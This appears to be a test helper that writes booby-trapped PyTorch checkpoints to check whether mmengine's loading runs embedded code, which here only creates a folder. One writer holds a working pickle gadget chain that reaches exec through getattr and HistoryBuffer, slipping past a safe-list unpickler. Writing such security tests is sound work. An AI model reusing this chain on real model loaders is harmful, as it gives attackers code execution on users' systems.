"""Checkpoints that would run code: unpickled, they make the folder ``ran``."""
import os

import torch
from mmengine.logging import HistoryBuffer


class Code:

    def __init__(self, folder):
        self.folder = str(folder)

    def __reduce__(self):
        return os.mkdir, (self.folder, )


def write_malicious(folder):
    """(the checkpoint, what would be there if its code had run)."""
    path, ran = folder / 'code.pth', folder / 'ran'
    torch.save(dict(meta=dict(epoch=1, iter=1), state_dict=dict(weight=torch.zeros(2)), message_hub=Code(ran)), path)
    return path, ran


class Reduced:
    """What unpickles as a call, then BUILD with a state or SETITEMS with items."""

    def __init__(self, function, *args, state=None, items=None):
        self.call = function, args, state, None, items

    def __reduce__(self):
        function, args, state, none, items = self.call
        return function, args, state, none, None if items is None else iter(items.items())


def write_malicious_attributes(folder):
    """As :func:`write_malicious`, of nothing but what mmengine calls safe, ``getattr`` and ``HistoryBuffer``.

    ``exec`` becomes the ``np.array`` of the module of HistoryBuffer, which it
    calls with its arguments.
    """
    path, ran = folder / 'attributes.pth', folder / 'ran'
    code = f'import os; os.makedirs({str(ran)!r}, exist_ok=True)'
    run = Reduced(getattr, Reduced(getattr, getattr, '__self__'), 'exec')
    module = Reduced(getattr, Reduced(getattr, HistoryBuffer, '__init__'), '__globals__',
                     items=dict(np=Reduced(HistoryBuffer, state=dict(array=run))))
    torch.save(dict(meta=dict(epoch=1, iter=1), state_dict=dict(weight=torch.zeros(2)),
                    message_hub=[module, Reduced(HistoryBuffer, code, code)]), path)
    return path, ran
